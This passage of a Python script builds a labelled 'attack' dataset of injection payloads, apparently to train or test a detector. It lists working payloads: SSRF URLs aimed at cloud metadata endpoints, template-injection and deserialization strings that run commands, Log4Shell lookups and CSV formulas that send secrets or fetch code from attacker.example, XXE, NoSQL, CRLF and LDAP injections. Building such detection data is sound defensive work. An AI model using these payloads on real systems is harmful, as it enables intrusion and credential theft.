    ("avatar-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("server-query-router-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("modurl-ftp-internal", "ftp://10.0.0.8:21/backups/"),
    ("modurl-jar-scheme", "jar:http://attacker.example/x.jar!/META-INF/MANIFEST.MF"),
    ("avatar-url-java-netdoc", "netdoc:///etc/passwd"),
    ("stream-url-enclosed-alnum+unicode", "http://①②⑦.⓪.⓪.①/"),
    ("avatar-url-percent-host+url", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("modurl-backslash-parser-confusion", "http://127.0.0.1:80\\@cdn.ashfall.example/"),
    ("webhook-url-cluster-internal", "http://internal-api.game.svc.cluster.local/admin/users"),
    ("server-query-ipv6-mapped-expanded+alt-ip", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("modurl-zero-host", "http://0/"),
    ("webhook-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("avatar-url-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("server-query-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("webhook-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<gm@ashfall.example>%0D%0ARCPT%20TO:<victim@mail.example>%0D%0ADATA%0D%0AReset%20your%20password%0D%0A.%0D%0A"),
    ("modurl-octal-metadata+alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("avatar-url-decimal-metadata+alt-ip", "http://2852039166/latest/meta-data/"),
    ("stream-url-hex-metadata+alt-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("webhook-url-openstack-metadata", "http://169.254.169.254/openstack/latest/meta_data.json"),
    ("server-query-mongodb", "http://127.0.0.1:27017/"),
    ("mapimport-url-gcp-short-host", "http://metadata/computeMetadata/v1/project/project-id"),
    ("webhook-url-spark-ui", "http://127.0.0.1:4040/api/v1/applications"),
    ("avatar-url-mixed-hex-short+alt-ip", "http://0x7f.1/"),
    ("plain-aws-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file-hosts", "file:///etc/hosts"),
    ("plain-loopback-ssh-port", "http://127.0.0.1:22/"),
    ("plain-gopher-memcached", "gopher://127.0.0.1:11211/_stats"),
]

SSRF_HOSTS = ["127.0.0.1", "localhost", "10.0.0.7", "172.17.0.1", "192.168.10.4"]
SSRF_PORTS = [("rcon", 25575, ""), ("game-admin", 8081, "admin/players"),
              ("prometheus", 9090, "api/v1/targets"), ("source-rcon", 27015, ""),
              ("redis", 6379, "")]


def gen_ssrf(rng):
    name, port, path = rng.choice(SSRF_PORTS)
    return f"server-query-internal-{name}", f"http://{rng.choice(SSRF_HOSTS)}:{port}/{path}"


# ---------------------------------------------------------------------------
# code: SSTI in MOTD/guild/mod templates, expression languages, deserialization of
# save files and mod configs, XXE in mod XML/SVG avatars, Log4Shell lookups in
# logged chat/names, prototype pollution in JSON profiles, CSV formula in exports
# ---------------------------------------------------------------------------
CODE = [
    ("motd-jinja2-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("guild-jinja2-context-cycler", "Welcome {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("motd-jinja2-subclasses-enum", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("motd-jinja2-config-leak", "Server rules: {{ config.items() }}"),
    ("guild-jinja2-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("moddesc-jinja2-loop-catch-warnings", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("motd-jinja2-lipsum-globals", "{{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("guild-jinja2-attr-filter+hex", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("moddesc-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("motd-twig-undefined-filter-callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("guild-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("motd-velocity-runtime", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
    ("profile-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("report-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("search-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("motd-erb-backticks", "<%= `id` %>"),
    ("guild-erb-file-read", "Raid times <%= File.read('/etc/passwd') %>"),
    ("moddesc-smarty-system", "{system('id')}"),
    ("motd-smarty-php-tag", "{php}echo `id`;{/php}"),
    ("motd-mako-os-system", "${self.module.cache.util.os.system('id')}"),
    ("moddesc-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("guild-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("motd-ejs-child-process", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("moddesc-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("profile-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("motd-django-settings-leak", "{{ settings.SECRET_KEY }}"),
    ("bugreport-jsf-el-runtime", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("chat-log4shell-ldap", "gg ${jndi:ldap://attacker.example:1389/a}"),
    ("playername-log4shell-lower-obfuscation", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/o}"),
    ("bugreport-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
    ("report-log4shell-default-value-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.4/Exploit}"),
    ("servername-log4shell-rmi", "Pinecrest ${jndi:${lower:r}mi://198.51.100.8:1099/obj}"),
    ("bugreport-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.${hostName}.oob.attacker.example/x}"),
    ("chat-log4shell+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fz%7D"),
    ("savefile-pickle-os-system", "cos\nsystem\n(S'id'\ntR."),
    ("savefile-pickle-os-system+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("savefile-pickle-subprocess", "csubprocess\ncheck_output\n((S'cat /etc/passwd'\nltR."),
    ("profile-php-object-injection", "O:11:\"PlayerPrefs\":2:{s:8:\"callback\";s:6:\"system\";s:4:\"args\";s:2:\"id\";}"),
    ("savefile-phar-wrapper-deserialize", "phar:///var/www/uploads/avatars/ghost.jpg/x"),
    ("modcfg-jsonnet-typename-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]}}"),
    ("modcfg-pyyaml-apply", "mobs: !!python/object/apply:os.system ['id']"),
    ("modcfg-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("savefile-node-serialize-iife", "{\"name\":\"Ghost\",\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("savefile-jsonpickle-reduce", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
    ("modcfg-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("modcfg-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://203.0.113.4:1099/x\",\"autoCommit\":true}]"),
    ("modcfg-xxe-file-entity", "<?xml version=\"1.0\"?>\n<!DOCTYPE item [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<item id=\"sword_of_dawn\"><name>&xxe;</name></item>"),
    ("modcfg-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE map [<!ENTITY % ext SYSTEM \"http://attacker.example/ev.dtd\"> %ext;]><map name=\"frontier\"/>"),
    ("avatar-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><text y=\"20\">&h;</text></svg>"),
    ("modcfg-xinclude", "<items xmlns:xi=\"http://www.w3.org/2001/XInclude\"><item><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></item></items>"),
    ("modcfg-xxe-php-expect", "<!DOCTYPE m [<!ENTITY x SYSTEM \"expect://id\">]><mod><name>&x;</name></mod>"),
    ("modcfg-xxe-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><loot>&e;</loot>"),
    ("modcfg-xxe-ssrf-metadata", "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><quest>&m;</quest>"),
    ("profile-proto-pollution-json", "{\"displayName\": \"Lina\", \"__proto__\": {\"isAdmin\": true}}"),
    ("modcfg-constructor-prototype", "{\"settings\": {\"constructor\": {\"prototype\": {\"role\": \"moderator\"}}}}"),
    ("search-proto-pollution-querystring", "filter[__proto__][god_mode]=1"),
    ("modcfg-proto-pollution-nested-merge", "{\"keybinds\":{\"__proto__\":{\"polluted\":\"yes\"}}}"),
    ("profile-proto-pollution-dotted-path", "settings.__proto__.isModerator=true"),
    ("speedrun-csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Watch VOD\")"),
    ("playername-csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("listing-csv-plus-dde", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("report-csv-at-dde", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("bracket-csv-minus-dde", "-2+3+cmd|' /C calc'!E1"),
    ("speedrun-csv-importxml-exfil", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2:A20),\"//a\")"),
    ("listing-csv-webservice-exfil", "=WEBSERVICE(\"http://attacker.example/?\"&B2)"),
    ("chat-python-eval-import", "/calc __import__('os').popen('id').read()"),
    ("modcfg-lua-load-os-execute", "load(\"os.execute('id')\")()"),
    ("chat-node-eval-child-process", "/roll require('child_process').execSync('cat /etc/passwd').toString()"),
    ("modcfg-php-complex-syntax-eval", "{${system('id')}}"),
    ("guild-ruby-interpolation-eval", "#{`id`}"),
    ("modcfg-lua-io-popen", "io.popen('id'):read('*a')"),
    ("modcfg-python-exec-compile", "exec(compile('import os;os.system(\"id\")','x','exec'))"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe-file", "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><x>&f;</x>"),
    ("plain-proto-pollution", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-csv-dde", "=1+1+cmd|' /C calc'!A1"),
    ("plain-jinja2-globals-popen", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
    ("plain-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
]

CODE_PREFIXES = ["gg", "Kenji", "report:", "[Nightwatch]", "lf tank", "Welcome"]
CODE_PROTOS = ["ldap", "rmi", "dns", "ldaps"]
CODE_HOSTS = ["attacker.example", "log.attacker.example", "203.0.113.44:1389", "198.51.100.9"]


def gen_code(rng):
    proto = rng.choice(CODE_PROTOS)
    path = rng.choice(["a", "Basic/Command/id", "x", "obj"])
    return (f"chat-log4shell-{proto}",
            f"{rng.choice(CODE_PREFIXES)} ${{jndi:{proto}://{rng.choice(CODE_HOSTS)}/{path}}}")


# ---------------------------------------------------------------------------
# nosqli: value parsed into a MongoDB-style query (login, profile search,
# marketplace filters, leaderboard $where)
# ---------------------------------------------------------------------------
NOSQLI = [
    ("login-json-ne", "{\"username\": \"O'Malley\", \"password\": {\"$ne\": null}}"),
    ("leaderboard-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("login-querystring-ne", "password[$ne]=x"),
    ("login-querystring-regex", "username[$regex]=^adm&password[$ne]=1"),
    ("search-json-regex-all", "{\"name\": {\"$regex\": \".*\"}, \"banned\": false}"),
    ("listing-json-or-exists", "{\"price\": {\"$gt\": 0}, \"$or\": [{\"seller\": {\"$exists\": true}}, {\"hidden\": true}]}"),
    ("playername-where-js-breakout", "Ghost'; return true; var x='"),
    ("playername-where-js-dos", "x'; while(true){}; var y='"),
    ("search-expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("leaderboard-aggregation-lookup", "[{\"$lookup\": {\"from\": \"accounts\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"leak\"}}]"),
    ("login-querystring-gt-empty", "login[$gt]=&pass[$gt]="),
    ("search-json-nin-empty", "{\"clan\": {\"$nin\": []}}"),
    ("guild-json-in-roles", "{\"clan\": \"VoX\", \"role\": {\"$in\": [\"admin\", \"gm\"]}}"),
    ("login-json-gt-empty", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("leaderboard-where-field-compare", "{\"$where\": \"this.gold > 1000000 || this.role == 'admin'\"}"),
    ("playername-where-or-string", "Ghost' || '1'=='1"),
    ("reset-json-regex-email", "{\"email\": {\"$regex\": \"^a.*@\", \"$options\": \"i\"}}"),
    ("profile-querystring-id-ne", "_id[$ne]=0"),
    ("login-querystring-ne+url", "username=admin&password%5B%24ne%5D=1"),
    ("login-json-where-regex-blind", "{\"username\": \"admin\", \"$where\": \"this.password.match(/^f/)\"}"),
    ("listing-aggregation-out-overwrite", "[{\"$match\": {\"_id\": null}}, {\"$out\": \"players\"}]"),
    ("login-json-escaped-operator+unicode", "{\"username\": \"admin\", \"password\": {\"\\u0024ne\": null}}"),
    ("plain-json-ne", "{\"$ne\": null}"),
    ("plain-where-true", "{\"$where\": \"1 == 1\"}"),
    ("plain-querystring-regex", "user[$regex]=.*"),
]

NOSQLI_NAMES = ["admin", "gm_support", "Lina_R", "Kenji", "moderator"]
NOSQLI_OPS = [("ne", "{\"$ne\": \"\"}"), ("gt", "{\"$gt\": \"\"}"),
              ("regex", "{\"$regex\": \"^.\"}"), ("exists", "{\"$exists\": true}")]


def gen_nosqli(rng):
    op, frag = rng.choice(NOSQLI_OPS)
    return f"login-json-{op}", f"{{\"username\": \"{rng.choice(NOSQLI_NAMES)}\", \"password\": {frag}}}"


# ---------------------------------------------------------------------------
# crlf: value written to a line-based log, an HTTP response header, a mail header,
# or a line protocol (IRC bridge) without stripping CR/LF
# ---------------------------------------------------------------------------
CRLF = [
    ("chat-log-line-forging", "gg\n[2024-03-02 21:15:00] [ADMIN] Ghost: granted 1000000 gold to Lina"),
    ("playername-header-set-cookie", "Kenji\r\nSet-Cookie: session=fake123; Path=/"),
    ("redirect-header-location", "/profile\r\nLocation: https://attacker.example/"),
    ("redirect-set-cookie+url", "%0d%0aSet-Cookie:%20gm_mode=1"),
    ("redirect-response-splitting+url", "%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C/script%3E"),
    ("support-email-bcc-injection", "player@mail.example\r\nBcc: list-a@mail.example, list-b@mail.example"),
    ("report-mail-subject-injection", "Cheater report\nCc: all-staff@ashfall.example\nSubject: URGENT: reset your password at https://attacker.example"),
    ("redirect-unicode-crlf+utf8", "/x%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("playername-access-log-forging", "Lina\n127.0.0.1 - - [02/Mar/2024:21:14:55 +0000] \"GET /admin/ban?lift=all HTTP/1.1\" 200 512"),
    ("appeal-syslog-forging", "please unban\n<13>Mar  2 21:14:55 game-01 sshd[991]: Accepted password for root from 203.0.113.7 port 52211 ssh2"),
    ("chat-json-log-injection", "gg\"}\n{\"level\":\"info\",\"event\":\"ban_lifted\",\"player\":\"Xx_Gank_xX\",\"by\":\"system\"}"),
    ("support-email-smtp-smuggling", "Hi\r\n.\r\nMAIL FROM:<gm@ashfall.example>\r\nRCPT TO:<victim@mail.example>\r\nDATA\r\nSubject: Account verification\r\n\r\nLog in at https://attacker.example/verify\r\n.\r\n"),
    ("webhook-name-header-injection", "ashfall-bot\r\nX-Forwarded-For: 127.0.0.1\r\nX-Admin: true"),
    ("bugreport-log-ansi-escape", "crash on load \u001b[2J\u001b[1;31m[CRITICAL] DB credentials rotated, run ./fix.sh\u001b[0m"),
    ("chat-log-injection+url", "gg%0a[INFO] user admin logged in from 10.0.0.2"),
    ("replay-content-disposition-splitting", "replay.rpl\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("playername-double-crlf-body", "Ghost\r\n\r\n<html><body>Server moved, log in at https://attacker.example</body></html>"),
    ("motd-rcon-log-forging", "Welcome!\r\n[2024-03-02 21:16:02] RCON: whitelist add Griefer99 (by Owner)"),
    ("support-email-to-injection", "me@mail.example\nTo: everyone@ashfall.example"),
    ("report-mail-mime-boundary", "see clip\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n--XX\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>verify</a>\r\n--XX--"),
    ("redirect-cr-only-header", "/lobby\rLocation: https://attacker.example/"),
    ("playername-lf-only-refresh-header", "Zoë\nRefresh: 0; url=https://attacker.example/"),
    ("redirect-set-cookie+double-url", "%250d%250aSet-Cookie:%2520sid=attacker"),
    ("listing-trade-log-forging", "Sapphire Ring\n2024-03-02T21:15:00Z TRADE seller=Lina buyer=Ghost item=Crown_of_the_Void price=1"),
    ("launcher-useragent-host-override", "AshfallLauncher/1.6\r\nHost: internal-admin.ashfall.example"),
    ("news-cache-header-poisoning", "/news?id=12\r\nCache-Control: public, max-age=31536000\r\nX-Cache-Key: poisoned"),
    ("chat-irc-bridge-command", "gg\r\nPRIVMSG #staff :!ban Kenji\r\n"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: a=b"),
    ("plain-crlf-header+url", "%0d%0aX-Injected: 1"),
    ("plain-lf-log-line", "\nERROR admin password reset by system"),
]

CRLF_NAMES = ["Ghost", "Lina_R", "O'Brien", "Kenji", "Ромашка"]
CRLF_LINES = [("set-cookie", "Set-Cookie: role=admin; Path=/"),
              ("location", "Location: https://attacker.example/claim"),
              ("log-ban-forging", "[2024-03-05 19:00:00] [MOD] ban lifted for Xx_Gank_xX")]


def gen_crlf(rng):
    name, line = rng.choice(CRLF_LINES)
    return f"playername-{name}", f"{rng.choice(CRLF_NAMES)}\r\n{line}"


# ---------------------------------------------------------------------------
# ldap-xpath: value placed in an LDAP filter (studio staff SSO, staff directory,
# beta-tester groups) or an XPath expression over XML player/item databases
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("staff-login-ldap-wildcard-close", "*)(uid=*))(|(uid=*"),
    ("staff-login-ldap-and-true", "admin)(&)"),
    ("directory-ldap-or-objectclass", "O'Malley*)(|(objectClass=*)"),
    ("directory-ldap-password-attr-probe", "*)(userPassword=a*"),
    ("staff-login-ldap-memberof", "gm*)(memberOf=cn=Admins,ou=Groups,dc=ashfall,dc=example)(|(cn="),
    ("directory-ldap-or+url", "%2a%29%28%7c%28uid%3d%2a"),
    ("directory-ldap-description-leak", "x)(|(cn=*)(description=*)"),
    ("staff-login-ldap-null-byte", "admin)(|(uid=*))%00"),
    ("tester-ldap-not-filter", "*)(!(accountStatus=disabled)"),
    ("playername-xpath-tautology", "Ghost' or '1'='1"),
    ("playername-xpath-count-probe", "x' or count(/players/player)>0 or 'a'='b"),
    ("item-xpath-union-nodes", "'] | //player[role='admin'] | //x['"),
    ("login-xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or '"),
    ("playername-xpath-name-length", "x' or string-length(name(/*[1]))=7 or 'x'='y"),
    ("item-xpath-all-nodes", "'] | //* | /a['"),
    ("leaderboard-xpath-numeric", "0 or 1=1"),
    ("login-xpath-position", "' or position()=1 or 'a'='b"),
    ("item-xpath-doc-exfil", "x' or doc(concat('http://attacker.example/', //user[1]/password))/a or '"),
    ("login-xpath-contains-blind", "admin' and contains(password/text(),'9') and 'a'='a"),
    ("plain-ldap-wildcard-close", "*)(objectClass=*"),
    ("plain-xpath-or", "' or ''='"),
]

LDAP_NAMES = ["gm_lina", "support", "qa.kenji", "community", "ops"]
LDAP_ATTRS = ["mail", "telephoneNumber", "employeeNumber", "sshPublicKey"]


def gen_ldap_xpath(rng):
    return ("directory-ldap-attr-wildcard",
            f"{rng.choice(LDAP_NAMES)}*)({rng.choice(LDAP_ATTRS)}=*")


CATEGORIES = [
    # name, literals, template, target count
    ("sqli", SQLI, gen_sqli, 78),
    ("xss", XSS, gen_xss, 76),
    ("cmdi", CMDI, gen_cmdi, 70),
    ("traversal", TRAVERSAL, gen_traversal, 50),
    ("ssrf", SSRF, gen_ssrf, 52),
    ("code", CODE, gen_code, 80),
    ("nosqli", NOSQLI, gen_nosqli, 27),
    ("crlf", CRLF, gen_crlf, 32),
    ("ldap-xpath", LDAP_XPATH, gen_ldap_xpath, 23),
]


def build():
    rng = random.Random(SEED)
    rows, stats, seen = [], [], set()
    for cat, literals, gen, target in CATEGORIES:
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        attempts = 0
        while len(items) < target:
            attempts += 1
            if attempts > 5000:
                raise SystemExit(f"template for {cat} cannot reach {target}")
            cls, v = gen(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        stats.append((cat, len(items), n_lit))
        for cls, v in items:
            rows.append({"category": cat, "class": cls, "value": v})
    return rows, stats


def main():
    rows, stats = build()
    out = []
    for i, r in enumerate(rows, 1):
        v, cls = r["value"], r["class"]
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit(f"bad value: {v!r}")
        if not cls or cls.count("+") > 1:
            raise SystemExit(f"bad class: {cls!r}")
        out.append({"id": f"{PREFIX}-{i:05d}", "category": r["category"], "class": cls,
                    "label": "attack", "value": v})
    if len({o["value"] for o in out}) != len(out):
        raise SystemExit("duplicate values")
    if BENIGN.exists():
        benign = set()
        with BENIGN.open(encoding="utf-8") as fh:
            for line in fh:
                benign.add(json.loads(line)["value"])
        clash = [o["value"] for o in out if o["value"] in benign]
        if clash:
            raise SystemExit(f"values present in benign.jsonl too: {clash[:3]!r}")
    with OUT.open("w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print(f"{cat:11s} n={n:3d} literals={lit:3d} ({100 * lit / n:.0f}%)")
    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    enc = sum(1 for o in out if "+" in o["class"])
    print(f"total n={len(out)} literals={total_lit} ({100 * total_lit / len(out):.0f}%) "
          f"plain={plain} encoded={enc}")
    print(f"wrote {OUT}")


if __name__ == "__main__":
    main()
